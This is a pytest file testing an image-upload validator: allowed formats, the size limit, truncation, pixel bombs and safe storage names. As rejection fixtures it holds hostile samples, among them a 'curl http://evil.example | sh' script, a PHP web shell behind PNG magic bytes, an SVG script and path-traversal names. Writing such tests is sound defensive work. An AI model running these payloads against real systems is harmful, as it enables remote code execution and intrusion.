"""Screenshot validation by content: formats, size limit, truncation, pixel bombs."""

from __future__ import annotations

import hashlib
import io
import random
import struct
import time
import zlib

import pytest
from PIL import Image

from trendedge.domain import images
from trendedge.domain.images import (
    ALLOWED_FORMATS,
    MAX_BYTES,
    ImageInfo,
    ImageRejected,
    inspect_image,
    safe_storage_name,
)


def _noise_image(width: int = 64, height: int = 48) -> Image.Image:
    """An RGB image of random pixels, so encoders produce sizeable pixel data."""
    rng = random.Random(1234)
    return Image.frombytes("RGB", (width, height), rng.randbytes(width * height * 3))


def _encode(fmt: str, width: int = 64, height: int = 48, **params: object) -> bytes:
    buf = io.BytesIO()
    _noise_image(width, height).save(buf, format=fmt, **params)
    return buf.getvalue()


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    body = kind + payload
    return struct.pack(">I", len(payload)) + body + struct.pack(">I", zlib.crc32(body))


def _png_with_header(width: int, height: int) -> bytes:
    """A tiny, structurally valid PNG whose IHDR declares `width` x `height`."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def _reject(data: bytes, filename: str, **kwargs: int) -> ImageRejected:
    with pytest.raises(ImageRejected) as info:
        inspect_image(data, filename=filename, **kwargs)
    assert filename in str(info.value), "the message names the file"
    return info.value


# --- acceptance --------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "mime", "ext"),
    [("PNG", "image/png", "png"), ("JPEG", "image/jpeg", "jpg"), ("WEBP", "image/webp", "webp")],
)
def test_accepts_each_allowed_format(fmt: str, mime: str, ext: str) -> None:
    data = _encode(fmt, 64, 48)
    info = inspect_image(data, filename=f"chart.{ext}")
    assert info == ImageInfo(format=fmt, mime_type=mime, width=64, height=48, extension=ext)
    assert info.format in ALLOWED_FORMATS


def test_accepts_lossless_webp_and_rgba_png() -> None:
    assert inspect_image(_encode("WEBP", lossless=True), filename="a.webp").format == "WEBP"
    buf = io.BytesIO()
    Image.new("RGBA", (10, 20), (1, 2, 3, 4)).save(buf, format="PNG")
    info = inspect_image(buf.getvalue(), filename="a.png")
    assert (info.width, info.height) == (10, 20)


def test_name_is_ignored_content_decides() -> None:
    info = inspect_image(_encode("PNG"), filename="holiday.jpg")
    assert info.format == "PNG"
    assert info.extension == "png"
    assert info.mime_type == "image/png"


def test_exactly_at_the_limit_is_accepted() -> None:
    data = _encode("PNG")
    assert inspect_image(data, filename="x.png", max_bytes=len(data)).format == "PNG"


# --- refusal by content ------------------------------------------------------

_ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
_PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 50 + b"PE\x00\x00"
_SCRIPT = b"#!/bin/sh\ncurl http://evil.example | sh\n"
_HTML = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"


@pytest.mark.parametrize("data", [_ELF, _PE, _SCRIPT, _HTML], ids=["elf", "pe", "sh", "svg"])
def test_renamed_non_image_is_refused(data: bytes) -> None:
    exc = _reject(data, "screenshot.png")
    assert exc.reason == "not_an_image"
    assert isinstance(exc, ValueError)


def test_gif_is_refused_as_unsupported() -> None:
    exc = _reject(_encode("GIF"), "chart.png")
    assert exc.reason == "unsupported_format"
    assert "GIF" in str(exc)


def test_pdf_is_refused_as_unsupported() -> None:
    exc = _reject(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "chart.jpg")
    assert exc.reason == "unsupported_format"
    assert "PDF" in str(exc)


def test_empty_is_refused() -> None:
    assert _reject(b"", "blank.png").reason == "empty"


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n<?php system($_GET['c']); ?>",
        b"\xff\xd8\xff\xe0" + b"not really a jpeg" * 10,
        b"RIFF\x10\x00\x00\x00WEBPVP8 garbage",
    ],
    ids=["png-magic", "jpeg-magic", "webp-magic"],
)
def test_magic_number_followed_by_junk_is_refused(data: bytes) -> None:
    assert _reject(data, "polyglot.png").reason == "truncated"


# --- size limit --------------------------------------------------------------


def test_oversized_file_is_refused_before_decoding(monkeypatch: pytest.MonkeyPatch) -> None:
    def _no_decoding(*args: object, **kwargs: object) -> None:
        raise AssertionError("decoded an oversized upload")

    monkeypatch.setattr(images.Image, "open", _no_decoding)
    data = b"\x89PNG\r\n\x1a\n" + bytes(MAX_BYTES)  # just over 10 MB, never a valid PNG
    start = time.perf_counter()
    exc = _reject(data, "huge.png")
    assert time.perf_counter() - start < 0.5
    assert exc.reason == "too_large"
    assert "10.0 MB" in str(exc)


def test_custom_limit_applies() -> None:
    data = _encode("JPEG")
    assert _reject(data, "a.jpg", max_bytes=len(data) - 1).reason == "too_large"


# --- truncation --------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "WEBP"])
@pytest.mark.parametrize("keep", [0.1, 0.5, 0.9])
def test_truncated_image_is_refused(fmt: str, keep: float) -> None:
    data = _encode(fmt, 128, 96)
    cut = data[: int(len(data) * keep)]
    assert _reject(cut, f"cut.{fmt.lower()}").reason == "truncated"


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "WEBP"])
def test_every_cut_near_the_end_is_refused(fmt: str) -> None:
    data = _encode(fmt, 128, 96)
    for k in range(1, 40):
        assert _reject(data[:-k], f"cut.{fmt.lower()}").reason == "truncated", k


def test_png_with_data_after_iend_is_refused() -> None:
    data = _encode("PNG")
    assert data.endswith(_png_chunk(b"IEND", b""))
    assert _reject(data + b"PK\x03\x04zip", "poly.png").reason == "truncated"


def test_png_with_bad_crc_is_refused() -> None:
    data = bytearray(_encode("PNG"))
    data[40] ^= 0xFF  # inside the first IDAT chunk
    assert _reject(bytes(data), "bad.png").reason == "truncated"


def test_jpeg_missing_scan_data_is_refused() -> None:
    data = _encode("JPEG", 128, 96)
    assert _reject(data[:-200], "cut.jpg").reason == "truncated"


# --- pixel bombs -------------------------------------------------------------


def test_decompression_bomb_header_is_refused_fast() -> None:
    data = _png_with_header(50_000, 50_000)
    assert len(data) < 200
    start = time.perf_counter()
    exc = _reject(data, "bomb.png")
    assert time.perf_counter() - start < 0.5
    assert exc.reason == "too_many_pixels"


def test_pixel_count_over_our_limit_but_under_pillows_is_refused() -> None:
    exc = _reject(_png_with_header(8_000, 8_000), "big.png")  # 64 MP > 40 MP
    assert exc.reason == "too_many_pixels"
    assert "8000x8000" in str(exc)


def test_one_huge_side_is_refused() -> None:
    assert _reject(_png_with_header(30_000, 10), "strip.png").reason == "too_many_pixels"


def test_pixel_limits_are_configurable() -> None:
    data = _encode("PNG", 64, 48)
    assert _reject(data, "a.png", max_dimension=63).reason == "too_many_pixels"
    assert _reject(data, "a.png", max_pixels=64 * 48 - 1).reason == "too_many_pixels"


def test_animated_png_is_refused() -> None:
    buf = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), c) for c in ("red", "blue")]
    frames[0].save(buf, format="PNG", save_all=True, append_images=frames[1:])
    assert _reject(buf.getvalue(), "anim.png").reason == "unsupported_format"


def test_refuses_to_run_if_truncated_images_are_allowed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(images.ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    with pytest.raises(RuntimeError):
        inspect_image(_encode("PNG"), filename="a.png")


# --- storage name ------------------------------------------------------------


def test_safe_storage_name_layout() -> None:
    data = _encode("PNG")
    digest = hashlib.sha256(data).hexdigest()
    info = inspect_image(data, filename="../../etc/passwd.png")
    path = safe_storage_name(42, digest, info.extension)
    assert path == f"u42/{digest[:2]}/{digest}.png"
    assert ".." not in path
    assert "passwd" not in path
    assert not path.startswith("/")


@pytest.mark.parametrize(
    ("user_id", "digest", "extension"),
    [
        (1, "../" + "a" * 61, "png"),
        (1, "a" * 63, "png"),
        (1, "A" * 64, "png"),
        (1, "a" * 64 + "/..", "png"),
        (1, "a" * 64, "../png"),
        (1, "a" * 64, "exe"),
        (1, "a" * 64, ".png"),
        (-1, "a" * 64, "png"),
        (True, "a" * 64, "png"),
        ("1/../2", "a" * 64, "png"),
    ],
)
def test_safe_storage_name_rejects_unsafe_parts(
    user_id: object, digest: str, extension: str
) -> None:
    with pytest.raises(ValueError):
        safe_storage_name(user_id, digest, extension)  # type: ignore[arg-type]
